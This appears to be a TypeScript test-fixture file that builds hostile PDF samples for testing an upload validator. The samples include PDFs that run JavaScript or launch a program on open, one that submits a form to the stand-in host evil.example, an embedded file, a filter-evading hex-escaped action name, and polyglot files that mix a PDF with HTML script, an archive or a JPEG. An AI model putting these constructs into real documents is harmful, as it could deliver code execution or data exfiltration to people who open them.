import { file, latin1, MARKER, SCRIPT, type HostileFile, type Samples } from './samples';

/** PDFs, and files that claim to be PDFs; an accepted one is shown as images of its pages. */
export const hostileDocuments = ({ jpeg }: Samples): HostileFile[] => [
  file(
    'a PDF that runs a script when it is opened',
    'id.pdf',
    'application/pdf',
    pdf(`/OpenAction<</S/JavaScript/JS(app.alert("${MARKER}"))>>`),
  ),
  file('a PDF that starts a program', 'id.pdf', 'application/pdf', pdf(`/OpenAction<</S/Launch/F(${MARKER}.exe)>>`)),
  file(
    'a PDF that sends a form',
    'id.pdf',
    'application/pdf',
    pdf(`/OpenAction<</S/SubmitForm/F(https://evil.example/${MARKER})>>`),
  ),
  file(
    'a PDF with a file inside',
    'id.pdf',
    'application/pdf',
    pdf(`/Names<</EmbeddedFiles<</Names[(${MARKER}) 2 0 R]>>>>/EmbeddedFile`),
  ),
  file(
    'a PDF whose names are written in other signs',
    'id.pdf',
    'application/pdf',
    pdf(`/OpenAction<</S/Java#53cript/JS(${MARKER})>>`),
  ),
  file('a PDF that is cut off', 'id.pdf', 'application/pdf', pdf('').subarray(0, 40)),
  file('a PDF with a page behind it', 'id.html', 'text/html', Buffer.concat([pdf(''), latin1(SCRIPT)])),
  file('a page with a PDF behind it', 'id.pdf', 'application/pdf', Buffer.concat([latin1(SCRIPT), pdf('')])),
  file('a PDF that is nothing but its first line', 'id.pdf', 'application/pdf', '%PDF-1.7\n'),
  file(
    'a PDF with an archive behind it',
    'id.pdf',
    'application/pdf',
    Buffer.concat([pdf(''), latin1(`PK\x05\x06${'\0'.repeat(18)}`)]),
  ),
  file('a JPEG that says it is a PDF', 'id.pdf', 'application/pdf', Buffer.concat([latin1('%PDF-1.4\n'), jpeg])),
];

/** One empty page; `more` is added to its catalog. */
function pdf(more: string): Buffer {
  const body = `%PDF-1.4\n1 0 obj\n<</Type/Catalog/Pages 2 0 R${more}>>\nendobj\n2 0 obj\n<</Type/Pages/Kids[]/Count 0>>\nendobj\n`;
  const table = `xref\n0 3\n0000000000 65535 f \n0000000009 00000 n \n0000000060 00000 n \n`;
  return latin1(`${body}${table}trailer\n<</Size 3/Root 1 0 R>>\nstartxref\n${body.length}\n%%EOF\n`);
}
